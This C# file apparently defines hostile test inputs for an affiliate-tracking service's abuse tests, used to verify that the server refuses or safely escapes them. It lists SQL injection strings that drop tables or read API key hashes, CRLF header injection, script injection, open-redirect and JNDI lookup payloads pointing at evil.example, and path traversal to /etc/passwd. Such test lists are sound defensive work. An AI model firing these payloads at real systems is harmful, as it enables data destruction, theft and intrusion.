namespace AffiliateTracker.Abuse;

/// Hostile values, as decoded text; WireText decides how each reaches the wire (percent-encoded, raw
/// bytes, overlong UTF-8, broken escapes). Markers: "abuse-injected" must never become a response
/// header, "<script>abuse" must never come back unescaped in HTML.
public static class Payloads
{
    public const string InjectedHeader = "X-Abuse-Injected";
    public const string InjectedCookie = "abuse_injected";
    public const string ScriptMarker = "<script>abuse";

    public static readonly string[] Strings =
    [
        "", " ", "a", "0", "-1", "null", "undefined", "true", "NaN", "Infinity", "-Infinity", "1e400", "-0", "0x1F",
        "１２３", "٣", "+1", "00000000000000000000000000000000000001",
        // SQL injection
        "' OR '1'='1", "1; DROP TABLE clicks; --", "'; SELECT pg_sleep(5); --", "\" OR \"\"=\"",
        "1' UNION SELECT key_hash FROM api_keys--", "$$; DROP TABLE conversions; $$", "\\'; DELETE FROM offers; --",
        "%' AND 1=0 UNION SELECT NULL --", "E'\\x00'", "');COPY clicks TO PROGRAM 'id';--", "1)) OR ((1=1",
        // header injection (CRLF, NEL, LS)
        "\r\n" + InjectedHeader + ": 1", "x\r\nSet-Cookie: " + InjectedCookie + "=1", "\n" + InjectedHeader + ": 1",
        "\r\n\r\n<html>abuse</html>", "x\u2028" + InjectedHeader + ": 1", "x\u0085" + InjectedHeader + ": 1",
        "%0d%0a" + InjectedHeader + ":%201",
        // markup
        ScriptMarker + "()</script>", "\">" + ScriptMarker + "()</script>", "<img src=x onerror=abuse()>", "javascript:abuse()",
        // redirect targets
        "//evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example", "evil.example", "@evil.example",
        "https:evil.example", "https:/\\evil.example", "http://shop.example@evil.example", "%2F%2Fevil.example", "/%09/evil.example",
        "///evil.example", "data:text/html,<script>abuse()</script>", "https://evil.example%23.shop.example",
        "。evil.example", "evil\u3002example", "／／evil.example", "https://evil.example\\@shop.example",
        // unicode and broken UTF-16
        "üñíçødé", "日本語テキスト", "😀", "👨‍👩‍👧‍👦", "\u202Eevil", "\uFEFF", "\u0000", "a\u0000b", "\u0001\u001F\u007F", "\uFFFD",
        "\uD800", "\uDC00", "a\uD800b", "\uDBFF\uDBFF", "\uFFFF", "\U0010FFFF", "e\u0301\u0301\u0301", "\u200B\u200C\u200D",
        "Z\u0351\u0360\u0346\u035Aa\u0352\u0348l\u0367\u0356g\u0368o",
        // traversal, templates, formats
        "../../../../etc/passwd", "..%2F..%2F", "%2e%2e%2f", "....//", "%s%s%s%n", "{0}", "{click_id}", "{sub1}",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "<!--#exec cmd=\"id\"-->",
        // numbers
        "99999999999999999999999999999", "-9223372036854775809", "9223372036854775807", "4294967296",
        "1.7976931348623157E+309", "0.0000000000000000000000000001",
    ];

    /// Amounts: valid decimals and every way of not being one.
    public static readonly string[] Amounts =
    [
        "-1", "-0", "-0.00", "NaN", "nan", "Infinity", "-Infinity", "∞", "1e400", "1E3", "1e-5", "0x10", "0X1F", "1,5", "1.234,56",
        "1.23456", "0.00001", " 5", "5 ", "+5", "٣", "１２", "1000000000000.0001", "1000000000000.01", "99999999999999999999",
        "1.7976931348623157E+308", "", ".", "..", "1.", ".5", "00012.50", "1_000", "$5", "5 USD", "0b101", "5e0", "true",
        "null", "[]", "{}", "0.1.2", "--1", "1-", "12\u00A0000", "\u0000", "5\u0000", "9" + new string('9', 400),
        "0." + new string('0', 400) + "1", new string('1', 30) + "." + new string('1', 30),
    ];

    public static readonly string[] Ids =
    [
        // Nothing here may parse as a real id: "+1" or " 1" would reach record 1, someone else's when the database is shared.
        "0", "-1", "-0", "1.5", "1e3", "0x10", "abc", "", " ", "١", "１", "9223372036854775808",
        "-9223372036854775809", "99999999999999999999999", "NaN", "null", "1;2", "1,2", "[1]", "{\"id\":1}", "1%00", "%00",
        "' OR 1=1 --", "1/**/OR/**/1=1",
    ];

    public static readonly string[] Dates =
    [
        "0001-01-01", "0001-01-01T00:00:00Z", "9999-12-31", "9999-12-31T23:59:59.9999999Z", "2026-13-45", "2026-02-30",
        "now", "today", "yesterday", "-1", "0", "1e400", "1700000000", "2026-11-22T25:61:61Z", "2026-11-22T10:00:00+25:00",
        "1999-12-31", "2100-01-02", "2026-11-22", "2026-11-22T10:00:00-14:00", "2026-11-22T10:00:00+14:00", "+002026-11-22",
        "20261122", "22/11/2026", "Sun, 22 Nov 2026 10:00:00 GMT", "'; SELECT 1; --", "\u0000", "2026-11-22\u0000",
    ];

    public static readonly string[] TimeZones =
    [
        "UTC", "Europe/Berlin", "America/New_York", "Asia/Kolkata", "Pacific/Chatham", "Etc/GMT+12", "Etc/GMT-14", "Etc/GMT+14",
        "Factory", "posixrules", "localtime", "right/UTC", "posix/Europe/Berlin", "Local", "zone.tab", "../../../../etc/passwd",
        "/usr/share/zoneinfo/UTC", "UTC+5", "+05:00", "Pacific Standard Time", "EST5EDT", "", " ", "\u0000", "Europe/Kyiv",
        new string('A', 300), "UTC' ; DROP TABLE offers; --",
    ];

    /// Hostile landing or fallback URLs for offers (the server must refuse those that put a macro where
    /// the host is decided, or answer cleanly whatever it does with the rest).
    public static readonly string[] Urls =
    [
        "https:/\\{sub1}", "https:\\\\{sub1}", "https://{sub1}", "https://{sub1}.shop.example/", "https://shop.example{sub1}",
        "https://shop.example:{sub1}/", "https://{sub1}@shop.example/", "https:{sub1}", "//{sub1}", "{sub1}", "javascript:{sub1}",
        "data:text/html,{sub1}", "ftp://shop.example/", "https://user:pass@shop.example/", "https://shop.example/\r\n" + InjectedHeader + ": 1",
        "https://shop.example/\u0000", "https://shop.example/a b", "https://shop.example/\tx", "https://bücher.example/{sub1}",
        "https://shop.example/größe?q=ü", "https://shop.example/%zz", "HTTPS://SHOP.EXAMPLE/{sub1}", "https://shop.example:99999/",
        "https://[::1]/", "http://127.0.0.1/", "https://shop.example/" + new string('a', 1990), "https://shop.example/" + new string('a', 2001),
        "https://shop.example/{unknown}/{", "https://shop.example\\@evil.example/", "https://shop.example/\uD800", "",
    ];

    public static readonly string[] UserAgents =
    [
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Safari/604.1",
        "Googlebot/2.1 (+http://www.google.com/bot.html)", "curl/8.5.0", "python-requests/2.31", "", "Mozilla/5.0 " + new string('x', 5000),
        "Mozilla/5.0 (üñíçødé) 日本語", "Mozilla/5.0 <script>abuse()</script>", "' OR 1=1 --",
    ];

    public static readonly string[] Countries = ["US", "DE", "us", "XX", "T1", "U", "USA", "1A", "ÜS", "", "--", "ZZ"];

    public static readonly string[] Methods = ["POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "G-E-T", "FOO"];

    public static readonly string[] ContentTypes =
    [
        "application/json", "application/json; charset=utf-8", "text/plain", "application/x-www-form-urlencoded", "",
        "application/json; charset=latin1", "application/json; charset=utf-16", "application/merge-patch+json", "application/problem+json",
        "multipart/form-data; boundary=abuse", "text/csv", "application/xml", "ap/pli/ca/tion", "application/json\r\n" + InjectedHeader + ": 1",
        "application/" + new string('j', 2000),
    ];
}
